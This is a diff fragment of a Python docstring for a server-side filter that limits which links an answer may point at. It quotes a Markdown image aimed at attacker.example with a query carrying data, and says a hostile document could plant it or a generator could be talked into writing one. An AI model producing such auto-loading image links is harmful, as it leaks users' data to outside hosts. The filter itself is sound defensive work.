@@ -1,4 +1,4 @@
-"""What an answer may point at (seed 003 §14.2): the last filter before text leaves the server.
+"""What an answer may point at: the last filter before text leaves the server.
 
 A client renders answers as Markdown or HTML. An image there loads by itself, so a hostile document
 that holds `![logo](https://attacker.example/p.png?d=...)` — or a generator talked into writing one
